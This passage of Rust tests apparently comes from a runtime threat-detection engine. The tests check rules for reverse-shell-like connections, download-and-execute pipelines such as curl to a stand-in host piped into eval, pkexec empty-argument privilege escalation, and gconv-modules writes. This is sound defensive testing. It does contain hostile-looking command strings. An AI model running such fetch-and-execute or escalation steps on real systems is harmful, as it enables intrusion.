            interpreter(tcl.0, tcl.1, &["tclsh"]),
            child(411, tcl, "/usr/bin/uname", &["uname", "-r"], true),
        ],
        vec![
            interpreter(tcl.0, tcl.1, &["tclsh"]),
            connect(tcl.0, "127.0.0.1:4444"),
            child(411, tcl, "/usr/bin/id", &["id"], false),
        ],
        vec![
            interpreter(python.0, python.1, &["python3", "deploy.py"]),
            connect(python.0, "192.0.2.7:443"),
            child(
                421,
                python,
                "/usr/bin/dash",
                &["/bin/sh", "-c", "uname -r"],
                true,
            ),
            child(422, python, "/usr/bin/git", &["git", "status"], true),
            child(
                423,
                python,
                "/usr/bin/dash",
                &["/bin/sh", "-c", "set -e\nmake\n"],
                true,
            ),
        ],
        vec![
            interpreter(perl.0, perl.1, &["perl", "-e", "..."]),
            Event::Connect(NetInfo {
                ret: -111,
                error: Some("ECONNREFUSED".into()),
                ..match connect(perl.0, "127.0.0.1:4444") {
                    Event::Connect(n) => n,
                    _ => unreachable!(),
                }
            }),
            child(431, perl, "/usr/bin/dash", &["sh", "-c", "id\n"], true),
        ],
        vec![
            interpreter(tcl.0, tcl.1, &["tclsh"]),
            connect(tcl.0, "127.0.0.1:4444"),
            interpreter(tcl.0, "/usr/bin/bash", &["bash", "x.sh"]),
            child(411, (tcl.0, "/usr/bin/bash"), "/usr/bin/id", &["id"], true),
        ],
    ] {
        let found = loop_rule(&events);
        assert!(found.is_empty(), "{found:?}");
    }
}

#[test]
fn a_download_a_script_hands_to_eval_is_download_and_execute() {
    let script = |evals: &[&str]| {
        let mut e = exec_by(
            440,
            "/usr/bin/bash",
            &["bash", "/root/setup.sh"],
            &[(200, "/usr/bin/bash")],
        );
        if let Event::Exec(x) = &mut e {
            x.script_evals = evals.iter().map(|s| (*s).to_owned()).collect();
        }
        e
    };
    let fetch = |exe: &str, argv: &[&str], captured: bool| {
        let mut e = exec_by(
            441,
            exe,
            argv,
            &[(440, "/usr/bin/bash"), (200, "/usr/bin/bash")],
        );
        if let Event::Exec(x) = &mut e {
            x.stdout_pipe = captured.then_some(88);
        }
        e
    };
    let curl = || {
        fetch(
            "/usr/bin/curl",
            &["curl", "-s", "http://192.0.2.1/x.sh"],
            true,
        )
    };
    let evaluated = |events: &[Event]| {
        run_all(events)
            .into_iter()
            .filter(|(_, r, _)| r == "behaviour-download-pipe-exec")
            .collect::<Vec<_>>()
    };
    for evals in [
        vec!["curl -s http://192.0.2.1/x.sh"],
        vec!["ssh-agent -s", "/usr/bin/curl -fsSL http://192.0.2.1/x.sh"],
    ] {
        assert_eq!(
            evaluated(&[script(&evals), curl()]),
            vec![(
                "Execution:Runtime/SuspiciousCommand".to_owned(),
                "behaviour-download-pipe-exec".to_owned(),
                SeverityLabel::High
            )],
            "{evals:?}"
        );
    }
    assert_eq!(
        evaluated(&[
            script(&["wget -qO- http://192.0.2.1/x"]),
            fetch(
                "/usr/bin/wget",
                &["wget", "-qO-", "http://192.0.2.1/x"],
                true
            ),
        ])
        .len(),
        1
    );
    // A script that evaluates something else (ssh-agent), or nothing, fetching a value; a
    // download to a file; a program that is no downloader named by the eval.
    for events in [
        vec![script(&["ssh-agent -s"]), curl()],
        vec![script(&[]), curl()],
        vec![
            script(&["curl -s http://192.0.2.1/x.sh"]),
            fetch(
                "/usr/bin/curl",
                &["curl", "-o", "x", "http://192.0.2.1/x"],
                false,
            ),
        ],
        vec![
            script(&["dircolors -b"]),
            fetch("/usr/bin/dircolors", &["dircolors", "-b"], true),
        ],
    ] {
        let found = evaluated(&events);
        assert!(found.is_empty(), "{found:?}");
    }
    // `eval "$(curl URL | base64 -d)"`: the pipeline runs from a subshell, a fork of the
    // script's shell (the same program, not exec'd), so the download's parent is that fork.
    let from_fork = |fork_exe: &str| {
        exec_by(
            442,
            "/usr/bin/curl",
            &["curl", "-s", "http://192.0.2.1/x.b64"],
            &[
                (441, fork_exe),
                (440, "/usr/bin/bash"),
                (200, "/usr/bin/bash"),
            ],
        )
    };
    let piped = |mut e: Event| {
        if let Event::Exec(x) = &mut e {
            x.stdout_pipe = Some(89);
        }
        e
    };
    assert_eq!(
        evaluated(&[
            script(&["curl -s http://192.0.2.1/x.b64 | base64 -d"]),
            piped(from_fork("/usr/bin/bash")),
        ])
        .len(),
        1,
        "a subshell's download"
    );
    // A grandchild under another program (a make the script runs) is not the script's own.
    assert!(
        evaluated(&[
            script(&["curl -s http://192.0.2.1/x.b64 | base64 -d"]),
            piped(from_fork("/usr/bin/make")),
        ])
        .is_empty()
    );
}

#[test]
fn an_empty_argument_vector_is_judged_by_the_files_mode_and_the_uid_change() {
    let empty = |argv: &[&str], set_id: bool, euid_changed: bool| {
        let e = exec_event("/usr/bin/pkexec", |x| {
            x.argv = argv.iter().map(|a| (*a).to_owned()).collect();
            x.argv0_empty = argv.first().is_none_or(|a| a.is_empty());
            x.exe_set_id = set_id;
            x.setuid = euid_changed;
        });
        run_all(&[e])
            .into_iter()
            .filter(|(_, rule, _)| rule == "behaviour-exec-empty-argv")
            .map(|(t, _, l)| (t, l))
            .collect::<Vec<_>>()
    };
    let raised = |label| {
        vec![(
            "PrivilegeEscalation:Runtime/SuspiciousCommand".to_owned(),
            label,
        )]
    };
    assert_eq!(empty(&[], true, false), raised(SeverityLabel::High));
    assert_eq!(empty(&[], false, true), raised(SeverityLabel::High));
    assert_eq!(
        empty(&["", "x"], false, false),
        raised(SeverityLabel::Medium)
    );
    assert!(empty(&["pkexec"], true, false).is_empty());
    assert!(empty(&["pkexec", ""], true, true).is_empty());
}

#[test]
fn an_iconv_module_list_is_judged_by_its_directory_and_writer() {
    let written = |path: &str, comm: &str| {
        let e = file_event("openWrite", path, |f| {
            f.process = proc_ref(350, comm);
            f.ret = 3;
        });
        run_all(&[e])
            .into_iter()
            .filter(|(_, r, _)| r == "behaviour-gconv-modules-written")
            .count()
    };
    assert_eq!(written("/tmp/x/pwnkit/gconv-modules", "sh"), 1);
    assert_eq!(written("/home/a/gconv-modules", "python3"), 1);
    for path in [
        "/usr/lib/x86_64-linux-gnu/gconv/gconv-modules",
        "/usr/lib/x86_64-linux-gnu/gconv/gconv-modules.d/gconv-modules",
        "/usr/lib64/gconv/gconv-modules",
        "/tmp/x/gconv-modules.cache",
    ] {
        assert_eq!(written(path, "sh"), 0, "{path}");
    }
}
